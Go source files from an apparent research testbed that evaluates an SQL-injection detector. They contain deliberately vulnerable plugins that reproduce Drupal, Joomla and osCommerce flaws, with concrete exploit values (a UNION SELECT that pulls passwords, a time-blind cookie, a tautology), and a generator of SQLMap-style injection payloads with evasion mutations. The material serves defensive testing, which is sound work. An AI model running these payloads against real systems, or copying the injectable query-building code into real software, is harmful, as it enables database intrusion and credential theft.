			// WordPress-wide input munging: whitespace trimming and magic
			// quotes, in that order.
			webapp.WithTransforms(webapp.TrimWhitespace, webapp.MagicQuotes),
		}
		app := webapp.NewApp(db, append(base, opts...)...)
		for _, s := range lab.Specs {
			app.Install(s.WebPlugin())
		}
		return app
	}

	lab.Unprotected = build()
	texts := lab.Unprotected.FragmentTexts()
	lab.Fragments = fragments.NewSet(texts)

	var err error
	lab.Guard, err = joza.New(joza.WithFragmentSet(lab.Fragments))
	if err != nil {
		return nil, fmt.Errorf("build guard: %w", err)
	}
	ntiGuard, err := joza.New(joza.WithoutPTI())
	if err != nil {
		return nil, fmt.Errorf("build NTI guard: %w", err)
	}
	ptiGuard, err := joza.New(joza.WithFragmentSet(lab.Fragments), joza.WithoutNTI())
	if err != nil {
		return nil, fmt.Errorf("build PTI guard: %w", err)
	}
	lab.Protected = build(webapp.WithGuard(lab.Guard))
	lab.NTIOnly = build(webapp.WithGuard(ntiGuard))
	lab.PTIOnly = build(webapp.WithGuard(ptiGuard))
	return lab, nil
}

// seedSchema creates and populates the shared tables.
func seedSchema(db *minidb.DB) error {
	stmts := []string{
		"CREATE TABLE posts (id INT, title TEXT, views INT)",
		"INSERT INTO posts VALUES (1, 'Hello World', 10), (2, 'About Us', 42), (3, 'Contact', 7), (4, 'News Roundup', 3)",
		"CREATE TABLE users (id INT, username TEXT, password TEXT)",
		"INSERT INTO users VALUES (1, 'admin', '" + leakSecret + "'), (2, 'editor', 'editorpass')",
		"CREATE TABLE comments (id INT, post_id INT, author TEXT, body TEXT)",
		"INSERT INTO comments VALUES (1, 1, 'alice', 'first post'), (2, 1, 'bob', 'nice article'), (3, 2, 'carol', 'thanks')",
		"CREATE TABLE options (id INT, name TEXT, value TEXT)",
		"INSERT INTO options VALUES (1, 'siteurl', 'http://example.test'), (2, 'template', 'twentyfourteen')",
		"CREATE TABLE products (id INT, name TEXT, price INT)",
		"INSERT INTO products VALUES (1, 'Widget', 19), (2, 'Gadget', 35), (3, 'Doodad', 7)",
		"CREATE TABLE events (id INT, name TEXT, venue TEXT)",
		"INSERT INTO events VALUES (1, 'Meetup', 'Main Hall'), (2, 'Workshop', 'Lab B')",
		"CREATE TABLE ads (id INT, banner TEXT, clicks INT)",
		"INSERT INTO ads VALUES (1, 'banner-top.png', 120), (2, 'banner-side.png', 48)",
		"CREATE TABLE downloads (id INT, file TEXT, hits INT)",
		"INSERT INTO downloads VALUES (1, 'report.pdf', 9), (2, 'slides.ppt', 4)",
		"CREATE TABLE ratings (id INT, stars INT, voter TEXT)",
		"INSERT INTO ratings VALUES (1, 5, 'alice'), (2, 3, 'bob')",
		"CREATE TABLE videos (id INT, title TEXT, url TEXT)",
		"INSERT INTO videos VALUES (1, 'Intro Video', '/v/1'), (2, 'Demo', '/v/2')",
		"CREATE TABLE links (id INT, name TEXT, url TEXT)",
		"INSERT INTO links VALUES (1, 'Home', 'http://example.test'), (2, 'Blog', 'http://example.test/blog')",
	}
	for _, q := range stmts {
		if _, err := db.Exec(q); err != nil {
			return fmt.Errorf("seed %q: %w", q, err)
		}
	}
	return nil
}

// SpecByName returns the spec with the given plugin name.
func (l *Lab) SpecByName(name string) *Spec {
	for _, s := range l.Specs {
		if s.Name == name {
			return s
		}
	}
	return nil
}

// Request builds the exploit (or benign) request for a spec: the payload
// is placed on the vulnerable parameter, already encoded for transport.
func (l *Lab) Request(s *Spec, payload string) *webapp.Request {
	return &webapp.Request{Get: map[string]string{s.Param: s.TransportValue(payload)}}
}

// Run performs one request against the chosen app configuration.
func (l *Lab) Run(app *webapp.App, s *Spec, payload string) (*webapp.Page, error) {
	return app.Handle(s.Name, l.Request(s, payload))
}

// CaseStudy is one of the Section V-B applications (Drupal, Joomla,
// osCommerce analogues).
type CaseStudy struct {
	Name    string
	Version string
	Ref     string
	// App is the application protected by its own guard; UnprotectedApp
	// and the per-analyzer variants mirror the Lab fields.
	Unprotected *webapp.App
	NTIOnly     *webapp.App
	PTIOnly     *webapp.App
	Protected   *webapp.App
	// Plugin is the single vulnerable route.
	Plugin string
	// Exploit and Benign are the request values.
	Exploit map[string]string
	Benign  map[string]string
	// Works decides whether an exploit attempt succeeded.
	Works func(page *webapp.Page, baseline *webapp.Page) bool
}

// CaseStudies builds the three case-study applications. Each reproduces
// the structural shape of the original vulnerability:
//
//   - Drupal (CVE-2014-3704): user-controlled array keys become
//     placeholder names inside an otherwise-parameterized query;
//   - Joomla (CVE-2013-1453-style): a serialized object smuggled through
//     an encoded cookie rebuilds a query from attacker-set fields;
//   - osCommerce: a tautology against an application whose own vocabulary
//     contains OR and = — the case where PTI alone is blind.
func CaseStudies() ([]*CaseStudy, error) {
	var out []*CaseStudy
	drupal, err := drupalCase()
	if err != nil {
		return nil, err
	}
	joomla, err := joomlaCase()
	if err != nil {
		return nil, err
	}
	osc, err := osCommerceCase()
	if err != nil {
		return nil, err
	}
	out = append(out, drupal, joomla, osc)
	return out, nil
}

// buildCaseApps constructs the four protection configurations for a case
// study over db with the given plugin and sources.
func buildCaseApps(cs *CaseStudy, db *minidb.DB, plugin *webapp.Plugin, transforms []webapp.Transform) error {
	build := func() *webapp.App {
		app := webapp.NewApp(db, webapp.WithTransforms(transforms...))
		app.Install(plugin)
		return app
	}
	cs.Unprotected = build()
	texts := cs.Unprotected.FragmentTexts()
	set := fragments.NewSet(texts)

	full, err := joza.New(joza.WithFragmentSet(set))
	if err != nil {
		return err
	}
	ntiG, err := joza.New(joza.WithoutPTI())
	if err != nil {
		return err
	}
	ptiG, err := joza.New(joza.WithFragmentSet(set), joza.WithoutNTI())
	if err != nil {
		return err
	}
	mk := func(g *joza.Guard) *webapp.App {
		app := webapp.NewApp(db, webapp.WithTransforms(transforms...), webapp.WithGuard(g))
		app.Install(plugin)
		return app
	}
	cs.Protected = mk(full)
	cs.NTIOnly = mk(ntiG)
	cs.PTIOnly = mk(ptiG)
	return nil
}

func drupalCase() (*CaseStudy, error) {
	db := minidb.New("drupal")
	db.MustExec("CREATE TABLE users (id INT, name TEXT, pass TEXT)")
	db.MustExec("INSERT INTO users VALUES (1, 'admin', '" + leakSecret + "'), (2, 'guest', 'guestpass')")

	// The vulnerable expandArguments pattern: the *key* of a form array
	// becomes part of a placeholder name in the prepared-statement text.
	// The attacker URL-encodes the key; the framework decodes it, so NTI's
	// raw input (encoded) no longer corresponds to the query.
	src := `<?php
$key = array_keys($_POST['name'])[0];
$query = 'SELECT id, name FROM users WHERE name IN (:name_' . $key . ')';
$stmt = $db->prepare($query);
`
	plugin := &webapp.Plugin{
		Name:   "user-login",
		Source: src,
		Handle: func(c *webapp.Ctx) (string, error) {
			key := urlDecode(c.Post("name_key"))
			// The "prepared" query text itself is attacker-influenced; the
			// placeholder is then bound to a harmless value.
			q := "SELECT id, name FROM users WHERE name IN (" + key + ")"
			q = strings.ReplaceAll(q, ":name_0", "'guest'")
			res, err := c.Query(q)
			if err != nil {
				return "", err
			}
			return webapp.RenderRows(res), nil
		},
	}
	cs := &CaseStudy{
		Name: "Drupal", Version: "7.31", Ref: "CVE-2014-3704",
		Plugin: "user-login",
		// URL-encoded key: "0) UNION SELECT name, pass FROM users -- -"
		Exploit: map[string]string{
			"name_key": ":name_0%29%20UNION%20SELECT%20name%2C%20pass%20FROM%20users%20--%20-",
		},
		Benign: map[string]string{"name_key": ":name_0"},
		Works: func(page, baseline *webapp.Page) bool {
			return strings.Contains(page.Body, leakSecret)
		},
	}
	if err := buildCaseApps(cs, db, plugin, []webapp.Transform{webapp.MagicQuotes}); err != nil {
		return nil, err
	}
	return cs, nil
}

func joomlaCase() (*CaseStudy, error) {
	db := minidb.New("joomla")
	db.MustExec("CREATE TABLE sessions (id INT, token TEXT, userid INT)")
	db.MustExec("INSERT INTO sessions VALUES (1, 'tok1', 1)")

	// The object-injection pattern: a base64 cookie deserializes into an
	// object whose fields build a query on destruction. The raw cookie
	// bears no textual relation to the query, defeating NTI.
	src := `<?php
$obj = unserialize(base64_decode($_COOKIE['session']));
$query = 'SELECT id, token FROM sessions WHERE userid=' . $obj->uid;
`
	plugin := &webapp.Plugin{
		Name:   "session-restore",
		Source: src,
		Handle: func(c *webapp.Ctx) (string, error) {
			// "Deserialize": cookie is base64("uid=<expr>").
			decoded := webapp.Base64Decode(c.Cookie("session"))
			uid := strings.TrimPrefix(decoded, "uid=")
			res, err := c.Query("SELECT id, token FROM sessions WHERE userid=" + uid)
			if err != nil {
				return "", err
			}
			return webapp.RenderRows(res), nil
		},
	}
	exploitUID := "uid=1 AND IF(LENGTH(database())>3, SLEEP(3), 0)"
	cs := &CaseStudy{
		Name: "Joomla", Version: "3.0.1", Ref: "CVE-2013-1453",
		Plugin:  "session-restore",
		Exploit: map[string]string{"session": webapp.Base64Encode(exploitUID)},
		Benign:  map[string]string{"session": webapp.Base64Encode("uid=1")},
		Works: func(page, baseline *webapp.Page) bool {
			return page.Delay.Seconds() >= 3
		},
	}
	if err := buildCaseApps(cs, db, plugin, []webapp.Transform{webapp.MagicQuotes}); err != nil {
		return nil, err
	}
	// Cookies are on the Cookies map, not Get; adapt the request builders
	// in the evaluation via Exploit/Benign maps (see RunCase).
	return cs, nil
}

func osCommerceCase() (*CaseStudy, error) {
	db := minidb.New("oscommerce")
	db.MustExec("CREATE TABLE zones (id INT, zone TEXT, country INT)")
	db.MustExec("INSERT INTO zones VALUES (1, 'East', 1), (2, 'West', 1), (3, 'North', 2)")

	// The osCommerce geo_zones tautology: the application's own source
	// contains the fragments "OR" and "=" (uppercase, as the original
	// exploit uses them), so PTI cannot flag the payload — only NTI can.
	src := `<?php
$zid = $_GET['zID'];
$query = 'SELECT id, zone FROM zones WHERE country=' . $zid;
/* query-builder vocabulary used elsewhere in osCommerce */
$c1 = ' OR ';
$c2 = '=';
$c3 = '1';
$c4 = ' AND ';
`
	plugin := &webapp.Plugin{
		Name:   "geo-zones",
		Source: src,
		Handle: func(c *webapp.Ctx) (string, error) {
			res, err := c.Query("SELECT id, zone FROM zones WHERE country=" + c.Get("zID"))
			if err != nil {
				return "", err
			}
			return webapp.RenderRows(res), nil
		},
	}
	cs := &CaseStudy{
		Name: "osCommerce", Version: "2.3.3.4", Ref: "OSVDB-103365",
		Plugin:  "geo-zones",
		Exploit: map[string]string{"zID": "1 OR 1=1"},
		Benign:  map[string]string{"zID": "1"},
		Works: func(page, baseline *webapp.Page) bool {
			return page.Rows > baseline.Rows
		},
	}
	if err := buildCaseApps(cs, db, plugin, []webapp.Transform{webapp.MagicQuotes}); err != nil {
		return nil, err
	}
	return cs, nil
}

// RunCase performs one request against a case-study app configuration.
// The Joomla case sends its value as a cookie; the Drupal case as POST;
// osCommerce as GET.
func RunCase(cs *CaseStudy, app *webapp.App, values map[string]string) (*webapp.Page, error) {
	req := &webapp.Request{}
	switch cs.Name {
	case "Joomla":
		req.Cookies = values
	case "Drupal":
		req.Post = values
	default:
		req.Get = values
	}
	return app.Handle(cs.Plugin, req)
}

// urlDecode resolves %XX escapes (a minimal urldecode).
func urlDecode(s string) string {
	var sb strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) {
			hi, ok1 := unhex(s[i+1])
			lo, ok2 := unhex(s[i+2])
			if ok1 && ok2 {
				sb.WriteByte(hi<<4 | lo)
				i += 2
				continue
			}
		}
		if s[i] == '+' {
			sb.WriteByte(' ')
			continue
		}
		sb.WriteByte(s[i])
	}
	return sb.String()
}

func unhex(c byte) (byte, bool) {
	switch {
	case c >= '0' && c <= '9':
		return c - '0', true
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10, true
	case c >= 'A' && c <= 'F':
		return c - 'A' + 10, true
	}
	return 0, false
}
