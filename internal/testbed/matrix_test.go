package testbed

import (
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"testing"

	"joza"
	"joza/internal/profile"
)

var updateGolden = flag.Bool("update-golden", false, "rewrite the detection-matrix golden baseline")

const goldenPath = "testdata/detection_matrix_golden.json"

func evaluateMatrix(t *testing.T) *DetectionMatrix {
	t.Helper()
	lab, err := NewLab()
	if err != nil {
		t.Fatal(err)
	}
	m, err := lab.EvaluateMatrix()
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// TestDetectionMatrix asserts the structural claims of the sweep: zero
// false positives after training, full hybrid+profile detection on the
// Table IV corpus, and — the point of the profile stage — both gap
// classes missed by NTI, PTI and their hybrid but caught by the profile.
func TestDetectionMatrix(t *testing.T) {
	m := evaluateMatrix(t)

	benign := m.Row(ClassBenign)
	if benign == nil || benign.Cases == 0 {
		t.Fatal("missing benign row")
	}
	if d := benign.Detected; d.NTI+d.PTI+d.Profile+d.Hybrid+d.HybridProfile != 0 {
		t.Errorf("false positives on %d benign cases: %+v", benign.Cases, d)
	}

	for _, class := range []string{ClassOriginal, ClassNTIMutant, ClassPTIMutant} {
		r := m.Row(class)
		if r == nil {
			t.Fatalf("missing row %s", class)
		}
		if r.Detected.HybridProfile != r.Cases {
			t.Errorf("%s: hybrid+profile detects %d/%d", class, r.Detected.HybridProfile, r.Cases)
		}
	}

	// PTI alone misses the 13 working Taintless rewrites the paper
	// reports; the corpus yields 15 working rewrites of which PTI still
	// catches 2.
	if r := m.Row(ClassPTIMutant); r.Detected.PTI >= r.Cases {
		t.Errorf("pti-mutant row lost its evasions: PTI detects %d/%d", r.Detected.PTI, r.Cases)
	}

	for _, class := range []string{ClassFragmentRebuilt, ClassSecondOrder} {
		r := m.Row(class)
		if r == nil {
			t.Fatalf("missing gap row %s", class)
		}
		d := r.Detected
		if d.NTI != 0 || d.PTI != 0 || d.Hybrid != 0 {
			t.Errorf("%s: taint analyzers must miss the gap class by construction: %+v", class, d)
		}
		if d.Profile != r.Cases || d.HybridProfile != r.Cases {
			t.Errorf("%s: profile stage missed the gap class: %+v", class, d)
		}
	}

	if m.ProfileSites == 0 || m.ProfileSkeletons == 0 || m.Store == nil {
		t.Errorf("matrix lost its trained store: sites=%d skeletons=%d", m.ProfileSites, m.ProfileSkeletons)
	}
	if m.TotalCases < 175 {
		t.Errorf("corpus shrank to %d cases", m.TotalCases)
	}
}

// TestDetectionMatrixGolden gates the sweep against the checked-in
// baseline: hybrid+profile detection must not regress on any attack
// class and the benign row must stay clean. Improvements only warn.
func TestDetectionMatrixGolden(t *testing.T) {
	m := evaluateMatrix(t)
	if *updateGolden {
		data, err := MatrixJSON(m)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(goldenPath, append(data, '\n'), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("golden baseline rewritten: %s", goldenPath)
		return
	}
	data, err := os.ReadFile(goldenPath)
	if err != nil {
		t.Fatal(err)
	}
	var golden DetectionMatrix
	if err := json.Unmarshal(data, &golden); err != nil {
		t.Fatalf("corrupt golden baseline: %v", err)
	}
	regressions, improvements := CompareMatrix(&golden, m)
	for _, msg := range improvements {
		t.Logf("improvement over golden (update the baseline to lock it in): %s", msg)
	}
	for _, msg := range regressions {
		t.Errorf("regression against golden: %s", msg)
	}
}

// TestCompareMatrix pins the gate semantics on synthetic matrices.
func TestCompareMatrix(t *testing.T) {
	golden := &DetectionMatrix{Rows: []MatrixRow{
		{Class: ClassBenign, Cases: 10},
		{Class: ClassOriginal, Cases: 5, Detected: TechniqueCounts{HybridProfile: 5}},
		{Class: ClassSecondOrder, Cases: 1, Detected: TechniqueCounts{HybridProfile: 1}},
	}}

	// Identical sweep: clean.
	if reg, imp := CompareMatrix(golden, golden); len(reg) != 0 || len(imp) != 0 {
		t.Errorf("self-compare = %v / %v", reg, imp)
	}

	// Lost detection, new false positive, missing row: three regressions.
	bad := &DetectionMatrix{Rows: []MatrixRow{
		{Class: ClassBenign, Cases: 10, Detected: TechniqueCounts{HybridProfile: 1}},
		{Class: ClassOriginal, Cases: 5, Detected: TechniqueCounts{HybridProfile: 4}},
	}}
	if reg, _ := CompareMatrix(golden, bad); len(reg) != 3 {
		t.Errorf("regressions = %v, want 3", reg)
	}

	// Fewer cases evaluated than golden is a regression even with a
	// perfect score on what ran.
	shrunk := &DetectionMatrix{Rows: []MatrixRow{
		{Class: ClassBenign, Cases: 10},
		{Class: ClassOriginal, Cases: 4, Detected: TechniqueCounts{HybridProfile: 4}},
		{Class: ClassSecondOrder, Cases: 1, Detected: TechniqueCounts{HybridProfile: 1}},
	}}
	if reg, _ := CompareMatrix(golden, shrunk); len(reg) != 1 {
		t.Errorf("shrunk regressions = %v, want 1", reg)
	}

	// More cases with at least golden detection is an improvement.
	better := &DetectionMatrix{Rows: []MatrixRow{
		{Class: ClassBenign, Cases: 12},
		{Class: ClassOriginal, Cases: 6, Detected: TechniqueCounts{HybridProfile: 6}},
		{Class: ClassSecondOrder, Cases: 1, Detected: TechniqueCounts{HybridProfile: 1}},
	}}
	reg, imp := CompareMatrix(golden, better)
	if len(reg) != 0 || len(imp) != 1 {
		t.Errorf("better = %v / %v, want 0 regressions, 1 improvement", reg, imp)
	}
}

// TestTrainProfilesRoundTrip exercises the exported training entry point
// and the serialized store: training, persisting, reloading and wiring
// the reloaded store into an enforcing guard must preserve the learned
// skeletons bit for bit.
func TestTrainProfilesRoundTrip(t *testing.T) {
	lab, err := NewLab()
	if err != nil {
		t.Fatal(err)
	}
	store, err := lab.TrainProfiles()
	if err != nil {
		t.Fatal(err)
	}
	if store.Sites() == 0 {
		t.Fatal("training learned nothing")
	}
	path := filepath.Join(t.TempDir(), "profiles.joza")
	if err := os.WriteFile(path, store.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	reloaded, err := joza.LoadProfiles(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(reloaded.Bytes()) != string(store.Bytes()) {
		t.Fatal("store did not round-trip bit-identically")
	}
	sk := profile.Skeleton("SELECT id, title FROM posts WHERE id=1 LIMIT 10")
	if reloaded.Lookup("plugin:a-to-z-category-listing", sk) != profile.SkeletonSeen {
		t.Errorf("reloaded store lost a trained skeleton; store:\n%.400s", reloaded.Bytes())
	}
}
