// Package sqlgen generates SQL-injection attack payloads in the style of
// automated penetration tools (SQLMap). The security evaluation (Table II)
// uses it to produce ~40 working attack variants per vulnerable plugin,
// spanning the four exploit classes of Table I: union-based, standard
// (boolean) blind, double (time) blind, and tautology.
//
// Payloads avoid subqueries (the minidb substrate does not support them);
// each class still exercises its defining observable: union payloads merge
// attacker rows, boolean-blind payloads toggle result emptiness, time-blind
// payloads toggle virtual SLEEP delay, and tautologies force WHERE clauses
// true.
package sqlgen

import (
	"strings"
)

// AttackType classifies a payload per Table I of the paper.
type AttackType int

// The four attack classes of the WP-SQLI-LAB testbed, plus the
// error-based class (not part of the testbed's Table I, but a common class
// in the wild: the database error message itself carries the exfiltrated
// value, via EXTRACTVALUE/UPDATEXML XPath errors).
const (
	Union AttackType = iota + 1
	StandardBlind
	DoubleBlind
	Tautology
	ErrorBased
)

// String returns the paper's name for the attack type.
func (t AttackType) String() string {
	switch t {
	case Union:
		return "Union Based"
	case StandardBlind:
		return "Standard Blind"
	case DoubleBlind:
		return "Double Blind"
	case Tautology:
		return "Tautology"
	case ErrorBased:
		return "Error Based"
	default:
		return "Unknown"
	}
}

// Context describes the injection point a payload must fit.
type Context struct {
	// Quoted is set when the injection point sits inside a quoted string
	// literal; payloads must break out of (and re-balance) the quotes.
	Quoted bool
	// Columns is the column count of the vulnerable SELECT, needed by
	// union payloads. Zero defaults to 2.
	Columns int
	// Table and Column name the data a union payload exfiltrates;
	// defaults are users.password.
	Table  string
	Column string
}

func (c Context) normalize() Context {
	if c.Columns <= 0 {
		c.Columns = 2
	}
	if c.Table == "" {
		c.Table = "users"
	}
	if c.Column == "" {
		c.Column = "password"
	}
	return c
}

// Generate returns up to n distinct payloads of the given type for the
// given injection context. Generation is deterministic: templates are
// expanded with a fixed sequence of mutators (case flips, comment
// whitespace, trailing comment forms), mirroring how SQLMap enumerates its
// boundary/payload matrix.
func Generate(typ AttackType, ctx Context, n int) []string {
	ctx = ctx.normalize()
	var bases []string
	switch typ {
	case Union:
		bases = unionBases(ctx)
	case StandardBlind:
		bases = blindBases()
	case DoubleBlind:
		bases = timeBases()
	case Tautology:
		bases = tautologyBases()
	case ErrorBased:
		bases = errorBases()
	}
	seen := make(map[string]bool, n)
	var out []string
	add := func(p string) bool {
		if ctx.Quoted {
			p = quoteWrap(p)
		}
		if seen[p] {
			return len(out) >= n
		}
		seen[p] = true
		out = append(out, p)
		return len(out) >= n
	}
	for _, mutate := range mutators() {
		for _, b := range bases {
			if add(mutate(b)) {
				return out
			}
		}
	}
	return out
}

// GenerateAll returns n payloads of every attack type.
func GenerateAll(ctx Context, nPerType int) map[AttackType][]string {
	out := make(map[AttackType][]string, 5)
	for _, t := range []AttackType{Union, StandardBlind, DoubleBlind, Tautology, ErrorBased} {
		out[t] = Generate(t, ctx, nPerType)
	}
	return out
}

func unionBases(ctx Context) []string {
	cols := make([]string, ctx.Columns)
	for i := range cols {
		cols[i] = "NULL"
	}
	// Put the target column in each position for column-position probing,
	// as SQLMap does.
	var bases []string
	for i := range cols {
		probe := make([]string, len(cols))
		copy(probe, cols)
		probe[i] = ctx.Column
		bases = append(bases,
			"-1 UNION SELECT "+strings.Join(probe, ", ")+" FROM "+ctx.Table)
	}
	bases = append(bases,
		"-1 UNION ALL SELECT "+strings.Join(cols, ", "),
		"-1 UNION SELECT "+strings.Join(cols, ", "),
		"-1 UNION SELECT version(), database()"+padNulls(ctx.Columns-2),
		"-1 UNION SELECT user(), version()"+padNulls(ctx.Columns-2),
	)
	return bases
}

func padNulls(n int) string {
	var sb strings.Builder
	for i := 0; i < n; i++ {
		sb.WriteString(", NULL")
	}
	return sb.String()
}

func blindBases() []string {
	return []string{
		"1 AND 1=1",
		"1 AND 1=2",
		"1 AND 2>1",
		"1 AND LENGTH(version())>3",
		"1 AND ASCII(SUBSTRING(version(), 1, 1))>52",
		"1 AND ASCII(SUBSTRING(database(), 1, 1))>64",
		"1 AND SUBSTRING(version(), 1, 1)='5'",
		"1 AND LENGTH(database())>1",
		"1 AND STRCMP(version(), '0')>0",
		"1 AND 1 LIKE 1",
	}
}

func timeBases() []string {
	return []string{
		"1 AND SLEEP(5)",
		"1 AND SLEEP(3)",
		"1 OR SLEEP(5)",
		"1 AND IF(1=1, SLEEP(5), 0)",
		"1 AND IF(LENGTH(version())>3, SLEEP(5), 0)",
		"1 AND IF(ASCII(SUBSTRING(version(), 1, 1))>52, SLEEP(3), 0)",
		"1 AND BENCHMARK(5000000, MD5('probe'))",
		"1 OR IF(1=1, SLEEP(2), 0)",
	}
}

func errorBases() []string {
	return []string{
		"1 AND EXTRACTVALUE(1, version())",
		"1 AND EXTRACTVALUE(1, database())",
		"1 AND EXTRACTVALUE(1, user())",
		"1 AND UPDATEXML(1, version(), 1)",
		"1 AND UPDATEXML(1, database(), 1)",
		"1 OR EXTRACTVALUE(1, user())",
	}
}

func tautologyBases() []string {
	return []string{
		"1 OR 1=1",
		"-1 OR 1=1",
		"1 OR 2=2",
		"1 OR 'a'='a'",
		"1 OR 1 LIKE 1",
		"1 OR 3>2",
		"0 OR TRUE",
		"1 OR NOT 1=2",
	}
}

// mutators returns the deterministic payload mutations applied to each
// base, in order: identity, keyword case flips, comment-as-whitespace,
// trailing comment forms, and combinations.
func mutators() []func(string) string {
	identity := func(p string) string { return p }
	upper := func(p string) string { return strings.ToUpper(p) }
	mixed := func(p string) string { return mixCase(p) }
	inlineComment := func(p string) string { return strings.ReplaceAll(p, " ", "/**/") }
	doubleSpace := func(p string) string { return strings.ReplaceAll(p, " ", "  ") }
	trailDashes := func(p string) string { return p + " -- -" }
	trailHash := func(p string) string { return p + " #" }
	return []func(string) string{
		identity,
		trailDashes,
		trailHash,
		upper,
		mixed,
		inlineComment,
		doubleSpace,
		func(p string) string { return upper(p) + " #" },
		func(p string) string { return mixed(p) + " -- -" },
		func(p string) string { return inlineComment(p) + "#" },
	}
}

func mixCase(p string) string {
	b := []byte(p)
	letter := 0
	for i, c := range b {
		switch {
		case c >= 'a' && c <= 'z':
			if letter%2 == 0 {
				b[i] = c - 'a' + 'A'
			}
			letter++
		case c >= 'A' && c <= 'Z':
			if letter%2 == 1 {
				b[i] = c - 'A' + 'a'
			}
			letter++
		}
	}
	return string(b)
}

// quoteWrap adapts a numeric-context payload to a single-quoted string
// context: close the string, inject, and re-balance with a trailing
// comment.
func quoteWrap(p string) string {
	return "x' OR " + stripLeadingValue(p) + " -- -"
}

// stripLeadingValue removes the leading numeric value of a payload ("1 AND
// ..." → "..."), keeping the boolean condition for quote-context reuse.
func stripLeadingValue(p string) string {
	trimmed := strings.TrimLeft(p, "-0123456789 ")
	switch {
	case strings.HasPrefix(strings.ToUpper(trimmed), "AND "):
		return trimmed[4:]
	case strings.HasPrefix(strings.ToUpper(trimmed), "OR "):
		return trimmed[3:]
	case trimmed == "":
		return "1=1"
	default:
		return trimmed
	}
}
