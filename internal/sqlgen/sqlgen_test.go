package sqlgen

import (
	"strings"
	"testing"
	"time"

	"joza/internal/minidb"
	"joza/internal/nti"
)

func TestGenerateCounts(t *testing.T) {
	for _, typ := range []AttackType{Union, StandardBlind, DoubleBlind, Tautology} {
		got := Generate(typ, Context{}, 40)
		if len(got) < 30 {
			t.Errorf("%v: generated %d payloads, want >= 30", typ, len(got))
		}
		seen := map[string]bool{}
		for _, p := range got {
			if seen[p] {
				t.Errorf("%v: duplicate payload %q", typ, p)
			}
			seen[p] = true
		}
	}
}

func TestGenerateDeterministic(t *testing.T) {
	a := Generate(Tautology, Context{}, 20)
	b := Generate(Tautology, Context{}, 20)
	if len(a) != len(b) {
		t.Fatal("nondeterministic count")
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("nondeterministic at %d: %q vs %q", i, a[i], b[i])
		}
	}
}

func TestAttackTypeString(t *testing.T) {
	names := map[AttackType]string{
		Union:         "Union Based",
		StandardBlind: "Standard Blind",
		DoubleBlind:   "Double Blind",
		Tautology:     "Tautology",
		AttackType(0): "Unknown",
	}
	for typ, want := range names {
		if got := typ.String(); got != want {
			t.Errorf("%d.String() = %q, want %q", typ, got, want)
		}
	}
}

// execDB builds the standard victim schema.
func execDB(t *testing.T) *minidb.DB {
	t.Helper()
	db := minidb.New("victim")
	db.MustExec("CREATE TABLE posts (id INT, title TEXT)")
	db.MustExec("INSERT INTO posts VALUES (1, 'a'), (2, 'b')")
	db.MustExec("CREATE TABLE users (id INT, username TEXT, password TEXT)")
	db.MustExec("INSERT INTO users VALUES (1, 'admin', 'hunter2')")
	return db
}

func TestGeneratedPayloadsActuallyWork(t *testing.T) {
	db := execDB(t)
	baseline, err := db.Exec("SELECT id, title FROM posts WHERE id=1")
	if err != nil {
		t.Fatal(err)
	}

	t.Run("tautology", func(t *testing.T) {
		working := 0
		for _, p := range Generate(Tautology, Context{}, 40) {
			res, err := db.Exec("SELECT id, title FROM posts WHERE id=" + p)
			if err == nil && len(res.Rows) > len(baseline.Rows) {
				working++
			}
		}
		if working < 30 {
			t.Errorf("only %d/40 tautologies leak extra rows", working)
		}
	})

	t.Run("union", func(t *testing.T) {
		working := 0
		for _, p := range Generate(Union, Context{Columns: 2}, 40) {
			res, err := db.Exec("SELECT id, title FROM posts WHERE id=" + p)
			if err == nil && len(res.Rows) > 0 {
				working++
			}
		}
		if working < 30 {
			t.Errorf("only %d/40 union payloads return attacker rows", working)
		}
	})

	t.Run("blind", func(t *testing.T) {
		// At least one generated pair must toggle result emptiness.
		var sawTrue, sawFalse bool
		for _, p := range Generate(StandardBlind, Context{}, 40) {
			res, err := db.Exec("SELECT id, title FROM posts WHERE id=" + p)
			if err != nil {
				continue
			}
			if len(res.Rows) > 0 {
				sawTrue = true
			} else {
				sawFalse = true
			}
		}
		if !sawTrue || !sawFalse {
			t.Errorf("blind payloads did not toggle: true=%v false=%v", sawTrue, sawFalse)
		}
	})

	t.Run("time", func(t *testing.T) {
		delayed := 0
		for _, p := range Generate(DoubleBlind, Context{}, 40) {
			res, err := db.Exec("SELECT id, title FROM posts WHERE id=" + p)
			if err == nil && res.Delay >= time.Second {
				delayed++
			}
		}
		if delayed < 20 {
			t.Errorf("only %d/40 time payloads produce delay", delayed)
		}
	})
}

func TestQuotedContext(t *testing.T) {
	db := execDB(t)
	payloads := Generate(Tautology, Context{Quoted: true}, 10)
	working := 0
	for _, p := range payloads {
		q := "SELECT id, title FROM posts WHERE title='" + p + "'"
		res, err := db.Exec(q)
		if err == nil && len(res.Rows) == 2 {
			working++
		}
	}
	if working < 5 {
		t.Errorf("only %d/%d quoted tautologies work", working, len(payloads))
	}
}

func TestGeneratedPayloadsDetectedByNTI(t *testing.T) {
	// Table II: NTI detects all generated variants (they appear verbatim
	// in the query).
	analyzer := nti.MustNew()
	for _, typ := range []AttackType{Union, StandardBlind, DoubleBlind, Tautology} {
		for _, p := range Generate(typ, Context{}, 40) {
			q := "SELECT id, title FROM posts WHERE id=" + p
			res := analyzer.Analyze(q, nil, []nti.Input{{Source: "get", Name: "id", Value: p}})
			if !res.Attack {
				t.Errorf("%v payload %q not detected by NTI", typ, p)
			}
		}
	}
}

func TestGenerateAll(t *testing.T) {
	all := GenerateAll(Context{}, 10)
	if len(all) != 5 {
		t.Fatalf("types = %d", len(all))
	}
	for typ, ps := range all {
		if len(ps) == 0 {
			t.Errorf("%v: no payloads", typ)
		}
	}
}

func TestUnionColumnsRespected(t *testing.T) {
	for _, p := range Generate(Union, Context{Columns: 3}, 10) {
		if !strings.Contains(strings.ToUpper(p), "UNION") {
			t.Errorf("not a union payload: %q", p)
		}
	}
	db := execDB(t)
	db.MustExec("CREATE TABLE wide (a INT, b INT, c INT)")
	db.MustExec("INSERT INTO wide VALUES (1, 2, 3)")
	working := 0
